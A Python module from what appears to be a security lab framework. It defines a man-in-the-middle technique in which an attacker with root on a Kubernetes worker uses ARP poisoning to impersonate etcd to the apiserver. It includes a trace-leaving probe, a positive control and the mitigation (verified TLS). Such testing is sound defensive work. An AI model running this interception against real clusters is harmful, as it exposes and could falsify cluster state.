"""Impersonate etcd towards the apiserver, and read what it stores.

The attacker needs root on a worker, where they poison ARP caches and redirect the packets to a
server of their own. The apiserver sends its objects to it if the channel is plaintext, or if it
does not verify etcd's certificate. The attacker could then answer anything. TLS with a verified
certificate stops it.
"""

from __future__ import annotations

import time
from contextlib import suppress
from typing import TYPE_CHECKING

from labkit.errors import ProbeError
from labkit.lab.traces import Trace, leaving
from labkit.techniques._lib.machines.admin import annotate
from labkit.techniques._lib.stores.etcd import as_apiserver
from labkit.techniques._lib.wire import interception
from labkit.techniques._lib.wire.interception import InterceptionTarget

if TYPE_CHECKING:
    from labkit.lab import Lab

__all__ = ["TECHNIQUE"]


SERVICE, MARK = "/api/v1/namespaces/shop/services/web", "labkit/mitm-etcd"
TRIES = 10


def call(lab: Lab) -> None:
    """Make the apiserver store an annotation, and remove it again."""
    with leaving(lab, Trace("annotation", f"{SERVICE} {MARK}")):
        _stored(lab)


def _stored(lab: Lab) -> None:
    """Write the annotation; try again, because a request over a reset connection is lost."""
    for _ in range(TRIES - 1):
        with suppress(ProbeError):
            return annotate(lab, SERVICE, MARK, "1")
        time.sleep(0.2)
    return annotate(lab, SERVICE, MARK, "1")


def positive_control(lab: Lab) -> str:
    """Show that etcd answers the apiserver when no attacker is in between."""
    as_apiserver(lab, "get", "/registry/services/specs/shop/web", "--keys-only")
    return "the true etcd answers to the apiserver's certificate"


TECHNIQUE = interception.technique(
    "mitm-etcd",
    "Be etcd for the apiserver",
    InterceptionTarget(
        about="kube-apiserver@* -> etcd@*",
        call=call,
        wanted="/registry/",
        read="what the apiserver asks of etcd; any answer to it could have been made up",
        positive_control=positive_control,
        leaves=("annotation",),
    ),
    stride=("spoofing", "tampering", "information disclosure"),
    sources=("https://etcd.io/docs/latest/op-guide/security/",),
)
